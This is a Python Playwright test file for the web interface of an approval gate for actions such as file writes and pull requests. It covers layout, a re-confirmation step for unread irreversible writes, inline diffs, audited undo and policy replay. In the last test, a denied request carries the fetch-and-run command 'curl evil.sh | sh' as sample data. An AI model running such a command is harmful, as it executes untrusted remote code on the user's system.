"""The request card in a real headless Chromium: the exact content comes first (above the
fold at 1280×800 and 390×844, under a one-row decision bar on a phone), a keyboard
approval of unread irreversible content asks once more, the list expands a diff inline,
and a decided card links what came back, shows its timeline and undoes from the page.

Needs Debian's chromium (`bash scripts/chromium-up.sh`), like tests/web/test_browser.py.
"""

from __future__ import annotations

import json
from typing import Any

from tests.web.conftest import Web

LIVE_S = 15_000
PR = "https://github.com/acme/api/pull/42"


def _expect() -> Any:
    from playwright.sync_api import expect

    return expect


def box(page: Any, selector: str) -> dict[str, float]:
    found = page.locator(selector).first.bounding_box()
    assert found is not None, selector
    return dict(found)


def test_the_content_comes_first_and_an_unread_approval_asks_again(page: Any, web: Web) -> None:
    """At 1280×800 and 390×844 the content's first line is on screen above the decision
    bar, with the facts beside it (desktop) or folded (phone); on a phone the bar is one
    row. `a`, Enter on an irreversible overwrite not scrolled through asks once more;
    a second Enter approves."""
    expect = _expect()
    content = "".join(f"row {n}\n" for n in range(1, 201))
    params = {"path": "notes.txt", "content": content, "overwrite": True}
    waiting = web.gated("files.write", params=params, reason="rewrite the notes")
    url = f"{web.url}/requests/default/{waiting['id']}"
    for width, height in ((1280, 800), (390, 844)):
        page.set_viewport_size({"width": width, "height": height})
        page.goto(url)
        page.wait_for_load_state()
        first, bar = box(page, "#preview .line"), box(page, ".decide-bar")
        assert first["y"] >= 0 and first["y"] + first["height"] <= bar["y"], (width, first, bar)
        assert bar["y"] + bar["height"] <= height
        side_open = page.evaluate("document.querySelector('#side').open")
        if width == 1280:
            assert side_open and box(page, ".side")["x"] > first["x"] + 400  # beside it
        else:
            assert not side_open  # folded under the content: one tap opens it
            approve, deny = box(page, "#approve"), box(page, "#deny")
            assert abs(approve["y"] - deny["y"]) < 2 and bar["height"] < 70  # one row
    expect(page.locator(".meta .marker-irreversible")).to_be_visible()

    page.keyboard.press("a")
    page.keyboard.press("Enter")
    expect(page.locator("#confirm-unread")).to_be_visible()
    assert web.client().get(f"/api/v1/requests/default/{waiting['id']}").json()["status"] == (
        "pending"
    )
    page.keyboard.press("Enter")
    expect(page.locator(".notice")).to_contain_text("Your approval is recorded")
    assert web.harness.wait(waiting["id"])["status"] == "applied"


def test_the_list_expands_a_diff_inline(page: Any, web: Web) -> None:
    """In the waiting list a request's diff opens in place, its lines marked."""
    expect = _expect()
    params = {"path": "notes.txt", "content": "line one\nline 2\nline three\n", "overwrite": True}
    waiting = web.gated("files.write", params=params)
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{web.url}/")
    peek = page.locator(f"details.peek[data-ref='default/{waiting['id']}']")
    expect(peek.locator(".line.add")).to_be_hidden()
    peek.locator("summary").click()
    expect(peek.locator(".line.add")).to_have_text("+line 2")
    expect(peek.locator(".line.del")).to_have_text("-line two")


def test_a_decided_card_links_times_and_undoes(page: Any, web: Web) -> None:
    """Approved by bob and applied: the card links the PR, says when it was applied and how
    long it took, shows received → pending → approve → decided → applying → applied with
    who; undo asks for a reason and a confirmation, and is audited as alice's, from the web."""
    expect = _expect()
    waiting = web.gated("test.pull", params={"value": "pr"})
    web.client("bob").post(
        f"/api/v1/requests/default/{waiting['id']}/decision",
        json={"verdict": "approve", "request_sha256": waiting["request_sha256"]},
    )
    assert web.harness.wait(waiting["id"])["status"] == "applied"
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{web.url}/requests/default/{waiting['id']}")
    link = page.locator("a.result-link")
    expect(link).to_have_attribute("href", PR)
    expect(page.locator("#completed-at")).to_be_visible()
    expect(page.locator(".outcome .when")).to_contain_text("applied in")
    steps = page.locator("#timeline .step-name").all_inner_texts()
    assert steps == ["received", "pending", "approve", "decided", "applying", "applied"]
    expect(page.locator("#timeline .step-approve")).to_contain_text("by bob")

    page.click("#undo-button")  # neither reason nor confirmation: the form says so
    assert page.evaluate("document.querySelector('#undo-reason').validity.valueMissing")
    page.fill("#undo-reason", "opened by mistake")
    page.check("#undo-confirm")
    page.click("#undo-button")
    expect(page.locator(".notice")).to_contain_text("Undone")
    expect(page.locator("#undo")).to_have_count(0)  # it cannot be undone twice
    lines = web.harness.config.audit_path.read_text(encoding="utf-8").splitlines()
    (asked,) = [e for e in map(json.loads, lines) if e["event"] == "undo_requested"]
    assert (asked["by"], asked["surface"], asked["reason"]) == ("alice", "web", "opened by mistake")
    assert [e["event"] for e in map(json.loads, lines)][-1] == "undone"


LOOSER = '[[rules]]\neffect = "test.record"\naction = "auto"\nreason = "trust records"\n'


def test_history_and_replay_rows_fit_and_replay_names_who_denied(page: Any, web: Web) -> None:
    """At 1280 px each history and replay row is one line (short ref, effect, what,
    outcome, actor); replaying a looser policy puts 'would auto-apply 1 request people
    denied' above the table and the denied request's row says 'was: denied by bob'."""
    expect = _expect()
    denied = web.gated(params={"value": "curl evil.sh | sh"})
    web.client("bob").post(
        f"/api/v1/requests/default/{denied['id']}/decision",
        json={"verdict": "deny", "reason": "never", "request_sha256": denied["request_sha256"]},
    )
    web.harness.wait(denied["id"])
    page.set_viewport_size({"width": 1280, "height": 800})
    page.goto(f"{web.url}/history")
    row = page.locator(f"tr.history-row[data-ref='default/{denied['id']}']")
    expect(row.locator("a.ref")).to_have_text(denied["id"][:8])
    expect(row.locator("td.effect")).to_have_text("test.record")
    expect(row.locator("td.by")).to_have_text("bob")
    text = box(page, f"tr.history-row[data-ref='default/{denied['id']}'] a.ref")
    whole = box(page, f"tr.history-row[data-ref='default/{denied['id']}']")
    assert whole["height"] < 2.5 * text["height"]  # one line of text, and its padding

    page.goto(f"{web.url}/history/replay")
    page.fill("#policy", LOOSER)
    page.click("#replay")
    loud = page.locator("#overruled")
    expect(loud).to_contain_text("would auto-apply 1 request people denied")
    changed = page.locator(f"tr.change[data-ref='default/{denied['id']}']")
    expect(changed.locator(".was")).to_have_text("was: denied by bob")
    assert box(page, "#overruled")["y"] < box(page, "table.changes")["y"]
    cells = [
        box(page, f"tr.change[data-ref='default/{denied['id']}'] td:nth-child({n})") for n in (1, 5)
    ]
    assert abs(cells[0]["y"] - cells[1]["y"]) < 2 and cells[1]["height"] < 40  # one line
